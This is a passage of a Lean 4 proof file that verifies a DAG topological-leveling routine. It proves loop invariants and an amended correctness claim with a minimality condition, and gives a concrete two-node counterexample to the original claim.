    · rw [levelIDsAt_append_lt levels _ k hkl,
        doneUpTo_append_le levels _ k (by omega)]
      exact inv.hlev k hkl v
    · have hkeq : k = levels.length := by omega
      subst hkeq
      rw [levelIDsAt_append_self levels _,
        doneUpTo_append_le levels _ levels.length (by omega),
        doneUpTo_full levels levels.length (by omega)]
      show v ∈ acc.levNodes.map Node.ID ↔ _
      rw [hids]
      exact inv.hqueue v

theorem topoLoop_post (s : DAGState) (wf : TopoWF s) :
    ∀ (fuel : Nat) (st : DAGState) (inDeg : List (String × Int))
      (queue : List String) (levels : List ParallelLevel) (processed : Nat),
      LoopInv s st inDeg queue levels processed →
      s.Nodes.length + 1 ≤ fuel + (doneAll levels).length →
      ∃ st' inDeg' levels',
        topoLoop fuel st inDeg queue levels processed
          = (st', levels', (doneAll levels').length)
        ∧ LoopInv s st' inDeg' [] levels' ((doneAll levels').length) := by
  intro fuel
  induction fuel with
  | zero =>
    intro st inDeg queue levels processed inv hfuel
    exfalso
    have hnd : (doneAll levels).Nodup := inv.hnodup.of_append_left
    have hsub : doneAll levels ⊆ keysOf s := fun v hv => inv.hdone_sub v hv
    have hle : (doneAll levels).length ≤ (keysOf s).length :=
      (List.subperm_of_subset hnd hsub).length_le
    have hklen : (keysOf s).length = s.Nodes.length := by
      unfold keysOf
      exact List.length_map _ _
    omega
  | succ fuel ih =>
    intro st inDeg queue levels processed inv hfuel
    cases queue with
    | nil =>
      refine ⟨st, inDeg, levels, ?_, { inv with hproc := rfl }⟩
      have hstep : topoLoop (fuel + 1) st inDeg [] levels processed
          = (st, levels, processed) := rfl
      rw [hstep, inv.hproc]
    | cons q0 qrest =>
      rcases round_inv s wf st inDeg (q0 :: qrest) levels processed inv
        with ⟨inv2, hD2⟩
      have hlen2 : (doneAll (levels ++ [{ Level := (levels.length : Int), Nodes := ((q0 :: qrest).foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).levNodes }])).length
          = (doneAll levels).length + (qrest.length + 1) := by
        rw [hD2, List.length_append, List.length_cons]
      rcases ih _ _ _ _ _ inv2 (by rw [hlen2]; omega)
        with ⟨st2, inDeg2, levels2, heq, hinv⟩
      refine ⟨st2, inDeg2, levels2, ?_, hinv⟩
      have hstep : topoLoop (fuel + 1) st inDeg (q0 :: qrest) levels processed
          = topoLoop fuel
              ((q0 :: qrest).foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).st
              ((q0 :: qrest).foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).inDeg
              ((q0 :: qrest).foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).nextQ
              (levels ++ [{ Level := (levels.length : Int), Nodes := ((q0 :: qrest).foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).levNodes }])
              ((q0 :: qrest).foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).processed := rfl
      rw [hstep]
      exact heq

theorem find?_map_keyfix2 {α β γ : Type} (g : α × β → α × γ)
    (l : List (α × β)) (pred : α → Bool) (hg : ∀ p, (g p).1 = p.1) :
    (l.map g).find? (fun p => pred p.1) = (l.find? (fun p => pred p.1)).map g := by
  induction l with
  | nil => rfl
  | cons p t ih =>
    simp only [List.map_cons, List.find?_cons]
    rw [hg p]
    cases hpa : pred p.1
    · simpa using ih
    · simp

theorem initial_inv (s : DAGState) (wf : TopoWF s) :
    LoopInv s s (s.Nodes.map (fun p => (p.1, (p.2.DependsOn.length : Int))))
      ((s.Nodes.filter (fun p => p.2.DependsOn.length == 0)).map (fun p => p.1))
      [] 0 := by
  refine ⟨rfl, fun v => rfl, wf.2.1, ?_, ?_, ?_, ?_, ?_, ?_, rfl, ?_⟩
  · rw [List.map_map]
    rfl
  · intro v
    unfold getDeg
    rw [find?_map_keyfix2 (fun p => (p.1, (p.2.DependsOn.length : Int)))
      s.Nodes (fun x => x == v) (fun p => rfl)]
    cases hf : s.Nodes.find? (fun p => p.1 == v) with
    | none =>
      have hfn : findNode s v = none := by
        unfold findNode
        rw [hf]
        rfl
      simp [remDeg, doneAll, depsD_none s v hfn]
    | some p =>
      have hfs : findNode s v = some p.2 := by
        unfold findNode
        rw [hf]
        rfl
      have hfil : p.2.DependsOn.filter
          (fun d => decide (d ∉ ([] : List String))) = p.2.DependsOn := by
        apply List.filter_eq_self.mpr
        intro a _
        simp
      simp [remDeg, doneAll, depsD_eq s v p.2 hfs, hfil]
  · have hsub : ((s.Nodes.filter (fun p => p.2.DependsOn.length == 0)).map
        (fun p => p.1)).Sublist (s.Nodes.map (fun p => p.1)) :=
      List.Sublist.map _ (List.filter_sublist _)
    have hq0 := hsub.nodup wf.1
    simpa [doneAll] using hq0
  · intro v hv
    simp [doneAll] at hv
  · intro v hv
    simp [doneAll] at hv
  · intro v
    constructor
    · intro hv
      rcases List.mem_map.mp hv with ⟨p, hpf, hp1⟩
      rcases List.mem_filter.mp hpf with ⟨hpm, hpl⟩
      have hdeps : p.2.DependsOn = [] :=
        List.length_eq_zero.mp (by simpa using hpl)
      have hfs : findNode s v = some p.2 := by
        apply findNode_eq_some_of_mem s wf.1
        have hpe : (p.1, p.2) ∈ s.Nodes := by
          rw [show ((p.1, p.2) : String × Node) = p from rfl]
          exact hpm
        rwa [hp1] at hpe
      refine ⟨(findNode_isSome_iff s v).mp (by rw [hfs]; rfl),
        by simp [doneAll], ?_⟩
      intro d hd
      rw [depsD_eq s v p.2 hfs, hdeps] at hd
      cases hd
    · rintro ⟨hk, _, hsub⟩
      rcases Option.isSome_iff_exists.mp ((findNode_isSome_iff s v).mpr hk)
        with ⟨n, hfn⟩
      have hdeps : n.DependsOn = [] := by
        cases hD : n.DependsOn with
        | nil => rfl
        | cons d rest =>
          exfalso
          have hmem := hsub d (by
            rw [depsD_eq s v n hfn, hD]
            exact List.mem_cons_self d rest)
          simp [doneAll] at hmem
      apply List.mem_map.mpr
      exact ⟨(v, n), List.mem_filter.mpr
        ⟨mem_of_findNode_eq_some s v n hfn, by simp [hdeps]⟩, rfl⟩
  · intro k hk v
    simp at hk

theorem exit_all_done (s : DAGState) (wf : TopoWF s) (D : List String)
    (hfrontier : ∀ v, ¬(v ∈ keysOf s ∧ v ∉ D ∧ ∀ d ∈ depsD s v, d ∈ D)) :
    ∀ v ∈ keysOf s, v ∈ D := by
  by_contra hcon
  push_neg at hcon
  rcases hcon with ⟨v0, hv0k, hv0D⟩
  have hstep : ∀ u, ∃ d, u ∈ keysOf s → u ∉ D →
      (d ∈ keysOf s ∧ d ∉ D ∧ edgeB s d u) := by
    intro u
    by_cases hu : u ∈ keysOf s ∧ u ∉ D
    · have hnc : ¬(∀ d ∈ depsD s u, d ∈ D) := by
        intro hc
        exact hfrontier u ⟨hu.1, hu.2, hc⟩
      push_neg at hnc
      rcases hnc with ⟨d, hd, hdD⟩
      refine ⟨d, fun _ _ => ⟨TopoWF_depsClosed s wf u d hd, hdD, ?_⟩⟩
      have hcnt := TopoWF_count s wf u d
      have hpos : 0 < (depsD s u).count d := by
        by_contra hnp
        have h0 : (depsD s u).count d = 0 := by omega
        exact (List.count_eq_zero.mp h0) hd
      rw [hcnt] at hpos
      have humem : u ∈ blocksD s d := by
        by_contra hnm
        rw [List.count_eq_zero.mpr hnm] at hpos
        exact Nat.lt_irrefl 0 hpos
      cases hfd : findNode s d with
      | none =>
        rw [blocksD_none s d hfd] at humem
        cases humem
      | some nd =>
        refine ⟨nd, hfd, ?_⟩
        rw [blocksD_eq s d nd hfd] at humem
        exact humem
    · exact ⟨u, fun h1 h2 => absurd ⟨h1, h2⟩ hu⟩
  choose g hg using hstep
  have hchain : ∀ k, (g^[k] v0) ∈ keysOf s ∧ (g^[k] v0) ∉ D := by
    intro k
    induction k with
    | zero => exact ⟨hv0k, hv0D⟩
    | succ k ihk =>
      rw [Function.iterate_succ_apply']
      rcases hg (g^[k] v0) ihk.1 ihk.2 with ⟨h1, h2, _⟩
      exact ⟨h1, h2⟩
  have hedge : ∀ k, edgeB s (g^[k+1] v0) (g^[k] v0) := by
    intro k
    rw [Function.iterate_succ_apply']
    exact (hg (g^[k] v0) (hchain k).1 (hchain k).2).2.2
  have hmaps : ∀ k ∈ Finset.range ((keysOf s).length + 1),
      g^[k] v0 ∈ (keysOf s).toFinset := by
    intro k _
    exact List.mem_toFinset.mpr (hchain k).1
  have hcard : (keysOf s).toFinset.card
      < (Finset.range ((keysOf s).length + 1)).card := by
    rw [Finset.card_range]
    exact Nat.lt_succ_of_le (List.toFinset_card_le _)
  rcases Finset.exists_ne_map_eq_of_card_lt_of_maps_to hcard hmaps
    with ⟨i, hi, j, hj, hij, hgij⟩
  have hwalk : ∀ a b, a < b →
      Relation.TransGen (edgeB s) (g^[b] v0) (g^[a] v0) := by
    intro a b hab
    induction b with
    | zero => omega
    | succ b ihb =>
      by_cases hba : a = b
      · subst hba
        exact Relation.TransGen.single (hedge a)
      · exact Relation.TransGen.head (hedge b) (ihb (by omega))
  rcases Nat.lt_or_ge i j with hlt | hge
  · have hcyc := hwalk i j hlt
    rw [hgij] at hcyc
    exact TopoWF_acyclic s wf _ hcyc
  · have hlt2 : j < i := by omega
    have hcyc := hwalk j i hlt2
    rw [← hgij] at hcyc
    exact TopoWF_acyclic s wf _ hcyc

/-- C2 (amended): for every well-formed DAG state (`TopoWF`: unique keys,
`ID` = key, adjacency closed and consistent, no `Blocks` edge closing a
cycle — the properties `AddNode`/`AddEdge` construction establishes),
`TopoLevels` succeeds, sets `MaxLevel` to the number of levels minus one,
places every stored node in exactly one level, and the set of ids at level
`k` equals exactly the stored nodes all of whose dependencies lie at levels
strictly below `k` AND (unless `k = 0`) at least one dependency lies at
level exactly `k - 1`.  The minimality clause is forced: without it a
node of a lower level also satisfies "all dependencies strictly below `k`",
so the claimed set equality fails (see the counterexample). -/
theorem claim_C2_amended (s : DAGState) (wf : TopoWF s) :
    ∃ s' levels, TopoLevels s = .ok (s', levels)
      ∧ s'.MaxLevel = (levels.length : Int) - 1
      ∧ (doneAll levels).Nodup
      ∧ (∀ v, v ∈ doneAll levels ↔ v ∈ keysOf s)
      ∧ ∀ k, k < levels.length → ∀ v,
          (v ∈ levelIDsAt levels k ↔
            (v ∈ keysOf s
              ∧ (∀ d ∈ depsD s v, ∃ j, j < k ∧ d ∈ levelIDsAt levels j)
              ∧ (k = 0 ∨ ∃ d ∈ depsD s v, d ∈ levelIDsAt levels (k - 1)))) := by
  rcases topoLoop_post s wf (s.Nodes.length + 1) s
      (s.Nodes.map (fun p => (p.1, (p.2.DependsOn.length : Int))))
      ((s.Nodes.filter (fun p => p.2.DependsOn.length == 0)).map (fun p => p.1))
      [] 0 (initial_inv s wf) (by simp [doneAll])
    with ⟨st2, inDeg2, levels2, heq, inv⟩
  have hfrontE : ∀ v, ¬(v ∈ keysOf s ∧ v ∉ doneAll levels2
      ∧ ∀ d ∈ depsD s v, d ∈ doneAll levels2) := by
    intro v hv
    have hmem := (inv.hqueue v).mpr hv
    cases hmem
  have hall : ∀ v ∈ keysOf s, v ∈ doneAll levels2 :=
    exit_all_done s wf (doneAll levels2) hfrontE
  have hndD : (doneAll levels2).Nodup := inv.hnodup.of_append_left
  have hmemiff : ∀ v, v ∈ doneAll levels2 ↔ v ∈ keysOf s :=
    fun v => ⟨fun h => inv.hdone_sub v h, fun h => hall v h⟩
  have hklen : (keysOf s).length = s.Nodes.length := by
    unfold keysOf
    exact List.length_map _ _
  have hlenD : (doneAll levels2).length = s.Nodes.length := by
    have h1 : (doneAll levels2).length ≤ (keysOf s).length :=
      (List.subperm_of_subset hndD (fun v hv => inv.hdone_sub v hv)).length_le
    have h2 : (keysOf s).length ≤ (doneAll levels2).length :=
      (List.subperm_of_subset wf.1 (fun v hv => hall v hv)).length_le
    omega
  have hTL : TopoLevels s
      = .ok ({ st2 with MaxLevel := (levels2.length : Int) - 1 }, levels2) := by
    unfold TopoLevels
    dsimp only
    rw [heq]
    dsimp only
    rw [if_neg (show ¬((doneAll levels2).length ≠ s.Nodes.length) from
      fun h => h hlenD)]
  refine ⟨{ st2 with MaxLevel := (levels2.length : Int) - 1 }, levels2,
    hTL, rfl, hndD, hmemiff, ?_⟩
  intro k hk v
  constructor
  · intro hv
    rcases (inv.hlev k hk v).mp hv with ⟨hkey, hnotup, hdepsup⟩
    refine ⟨hkey, ?_, ?_⟩
    · intro d hd
      exact (mem_doneUpTo levels2 k (by omega) d).mp (hdepsup d hd)
    · by_cases hk0 : k = 0
      · exact Or.inl hk0
      · right
        by_contra hnone
        push_neg at hnone
        have hdeps2 : ∀ d ∈ depsD s v, d ∈ doneUpTo levels2 (k - 1) := by
          intro d hd
          rcases (mem_doneUpTo levels2 k (by omega) d).mp (hdepsup d hd)
            with ⟨i, hik, hdi⟩
          have hine : i ≠ k - 1 := fun he => hnone d hd (he ▸ hdi)
          exact (mem_doneUpTo levels2 (k - 1) (by omega) d).mpr
            ⟨i, by omega, hdi⟩
        have hnotup2 : v ∉ doneUpTo levels2 (k - 1) := fun hin =>
          hnotup (doneUpTo_mono levels2 (k - 1) k (by omega) (by omega) v hin)
        have hvlev : v ∈ levelIDsAt levels2 (k - 1) :=
          (inv.hlev (k - 1) (by omega) v).mpr ⟨hkey, hnotup2, hdeps2⟩
        exact hnotup ((mem_doneUpTo levels2 k (by omega) v).mpr
          ⟨k - 1, by omega, hvlev⟩)
  · rintro ⟨hkey, hdepslow, hmin⟩
    have hdepsup : ∀ d ∈ depsD s v, d ∈ doneUpTo levels2 k := by
      intro d hd
      rcases hdepslow d hd with ⟨j, hjk, hdj⟩
      exact (mem_doneUpTo levels2 k (by omega) d).mpr ⟨j, hjk, hdj⟩
    have hnotup : v ∉ doneUpTo levels2 k := by
      intro hin
      rcases (mem_doneUpTo levels2 k (by omega) v).mp hin with ⟨j, hjk, hvj⟩
      rcases (inv.hlev j (by omega) v).mp hvj with ⟨_, hnotupj, hdepsj⟩
      rcases hmin with hk0 | ⟨d, hd, hdk1⟩
      · omega
      · have hdj : d ∈ doneUpTo levels2 j := hdepsj d hd
        have hdk2 : d ∈ doneUpTo levels2 (k - 1) :=
          doneUpTo_mono levels2 j (k - 1) (by omega) (by omega) d hdj
        exact disjoint_level_prefix levels2 hndD (k - 1) (by omega) d hdk1 hdk2
    exact (inv.hlev k hk v).mpr ⟨hkey, hnotup, hdepsup⟩

/-- C2 (counterexample to the literal claim): build a two-node DAG through
the constructors (nodes `a`, `b`; edge `a` must complete before `b`);
`TopoLevels` yields the two levels `[[a], [b]]`.  Every dependency of `a`
(there are none) lies at a level strictly below 1, yet `a` is not in the
level-1 set — so the set of nodes at level 1 is strictly smaller than the
set of nodes whose every dependency lies at a strictly lower level, and
the claimed set equality fails.  The missing condition is minimality: a
node sits at level `k > 0` only if some dependency sits at level `k - 1`. -/
theorem claim_C2_counterexample :
    AddNode { } { ID := "a" } = .ok { Nodes := [("a", { ID := "a" })] }
    ∧ AddNode { Nodes := [("a", { ID := "a" })] } { ID := "b" }
      = .ok { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] }
    ∧ AddEdge { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } "a" "b"
      = .ok { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
    ∧ TopoLevels { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
      = .ok ({ Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"], Level := 1 })], MaxLevel := 1 },
             [{ Level := 0, Nodes := [{ ID := "a", Blocks := ["b"] }] },
              { Level := 1, Nodes := [{ ID := "b", DependsOn := ["a"], Level := 1 }] }])
    ∧ "a" ∈ keysOf { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
    ∧ (∀ d ∈ depsD { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] } "a",
        ∃ j, j < 1 ∧ d ∈ levelIDsAt
          [{ Level := 0, Nodes := [{ ID := "a", Blocks := ["b"] }] },
           { Level := 1, Nodes := [{ ID := "b", DependsOn := ["a"], Level := 1 }] }] j)
    ∧ "a" ∉ levelIDsAt
        [{ Level := 0, Nodes := [{ ID := "a", Blocks := ["b"] }] },
         { Level := 1, Nodes := [{ ID := "b", DependsOn := ["a"], Level := 1 }] }] 1 := by
  refine ⟨rfl, rfl, rfl, rfl, by decide, ?_, by decide⟩
  intro d hd
  have hnil : depsD { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] } "a" = [] := by decide
  rw [hnil] at hd
  cases hd

/-- Witness for the amended C2 at a concrete well-formed input: the
two-node chain above satisfies `TopoWF` (checked by evaluation), so the
amended theorem applies to it. -/
theorem claim_C2_amended_witness :
    TopoWF { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
    ∧ (∃ s' levels,
        TopoLevels { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
          = .ok (s', levels)
        ∧ s'.MaxLevel = (levels.length : Int) - 1
        ∧ (doneAll levels).Nodup
        ∧ (∀ v, v ∈ doneAll levels ↔
            v ∈ keysOf { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] })
        ∧ ∀ k, k < levels.length → ∀ v,
            (v ∈ levelIDsAt levels k ↔
              (v ∈ keysOf { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
                ∧ (∀ d ∈ depsD { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] } v,
                    ∃ j, j < k ∧ d ∈ levelIDsAt levels j)
                ∧ (k = 0 ∨ ∃ d ∈ depsD { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] } v,
                    d ∈ levelIDsAt levels (k - 1))))) :=
  ⟨by unfold TopoWF; decide,
   claim_C2_amended { Nodes := [("a", { ID := "a", Blocks := ["b"] }), ("b", { ID := "b", DependsOn := ["a"] })] }
     (by unfold TopoWF; decide)⟩

end Kavach
